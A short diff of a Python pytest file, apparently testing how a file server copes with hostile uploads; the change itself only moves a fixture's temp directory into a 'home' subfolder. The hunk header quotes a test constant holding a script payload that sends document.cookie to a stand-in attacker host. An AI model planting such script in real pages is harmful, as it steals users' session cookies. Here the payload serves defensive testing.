@@ -31,7 +31,7 @@ SCRIPT = b"<script>fetch('https://evil.example/'+document.cookie)</script>"
 def running(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[RunningServer, Client, Client]]:
     """A server of low limits with the keys ann and bob."""
     limits = {"max_upload_file_bytes": MAX_FILE_BYTES, "max_upload_files": MAX_FILES}
-    with laboratory(tmp_path_factory.mktemp("hostile"), **limits) as running:
+    with laboratory(tmp_path_factory.mktemp("hostile") / "home", **limits) as running:
         yield running
         faults = [line for line in running[0].lines() if line["level"] == "error"]
         assert faults == []
